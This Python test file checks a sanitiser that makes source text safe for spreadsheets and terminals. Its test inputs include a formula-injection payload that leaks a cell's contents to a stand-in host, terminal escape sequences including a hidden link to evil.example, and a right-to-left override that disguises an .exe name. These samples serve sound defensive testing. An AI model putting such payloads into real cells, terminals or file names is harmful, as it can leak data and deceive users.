"""Text from sources, made safe for spreadsheets and terminals without changing ordinary text."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from skiptrace.safe_text import (
    REPLACEMENT,
    one_line,
    plain_text,
    spreadsheet_cell,
    terminal_text,
)


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://x/?leak="&A2,"click")',
        "+1+2",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =HYPERLINK(1)",
        "\n=1+1",
        "\xa0=1",
        "\u200b=1",
        "\uff1d1+1",
        "  \uff20SUM(A1)",
    ],
)
def test_a_formula_becomes_text(value: str) -> None:
    assert spreadsheet_cell(value) == "'" + value


@given(st.text())
def test_ordinary_cells_are_untouched_and_no_cell_starts_a_formula(value: str) -> None:
    safe = spreadsheet_cell(value)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert safe in (value, "'" + value)
    assert safe == value or not value[:1].isalnum()  # a cell starting with a letter is left


@pytest.mark.parametrize(
    "hostile",
    [
        "\x1b[2J",  # clear the screen
        "\x1b]0;owned\x07",  # window title
        "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",  # a hidden link
        "\x9b2J",  # C1 CSI
        "safe\u202egnp.exe",  # right-to-left override
        "\u2066isolate\u2069",
        "bell\x07",
    ],
)
def test_escapes_never_reach_a_terminal(hostile: str) -> None:
    safe = terminal_text(hostile)
    assert not any(ch in safe for ch in "\x1b\x07\x9b\u202e\u2066\u2069")
    assert REPLACEMENT in safe


def test_ordinary_text_with_accents_tabs_and_newlines_is_untouched() -> None:
    text = "Zoë Åsa, 12 Harbour Rd\tSpringfield\nIL 62701 — Straße"
    assert terminal_text(text) == text


BIDI_CONTROLS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def test_plain_text_has_no_invisible_format_character_but_keeps_bidi_controls() -> None:
    """Every format character (Cf) this Python knows is dropped ("\\u200bAcme" is Acme, as
    it looks), but the bidi controls, which ``terminal_text`` shows as U+FFFD."""
    formats = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) == "Cf"]
    assert [c for c in formats if plain_text(c) != "" and c not in BIDI_CONTROLS] == []
    assert plain_text(BIDI_CONTROLS) == BIDI_CONTROLS
    assert plain_text("\u200bAc\u00adme\u2060 Supply\ufeff\U000e0041") == "Acme Supply"
    assert plain_text("Acme\ud800") == "Acme\ufffd"
    text = "Zoë Åsa, 12 Harbour Rd, Springfield IL 62701 — Straße \u0627\u0644"
    assert plain_text(text) == text
    assert plain_text(" Acme\n\tSupply\u2028Co\r\n") == "Acme Supply Co"  # one line


def test_one_line_is_one_short_line_and_says_when_it_was_cut() -> None:
    assert one_line("pages\n\r\t2+  unread", 40) == "pages 2+ unread"
    assert one_line("x" * 50, 10) == "x" * 9 + "…"
    assert one_line("a" + " " * 100 + "b", 10) == "a…"  # "b" was never read: said cut
    assert one_line("\x1b[2Jgone\u202e", 40) == f"{REPLACEMENT}[2Jgone{REPLACEMENT}"
